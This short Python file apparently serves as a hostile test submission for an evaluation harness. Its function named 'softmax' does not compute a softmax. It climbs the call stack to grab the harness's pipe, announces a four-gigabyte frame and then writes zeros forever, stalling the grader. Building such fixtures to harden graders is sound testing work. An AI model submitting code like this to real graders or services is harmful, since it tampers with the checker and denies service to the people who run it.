"""Announces a frame of four gigabytes and sends zeros without end."""
# earns: 0
# limits: call=0.3 unit=0.8

import os
import sys

frame = sys._getframe()
while frame.f_code.co_name != "serve":
    frame = frame.f_back
pipe = frame.f_locals["self"].pipe


def softmax(logits):
    os.set_blocking(pipe.write, True)
    os.write(pipe.write, b"\xff\xff\xff\xff")
    while True:
        os.write(pipe.write, bytes(65536))
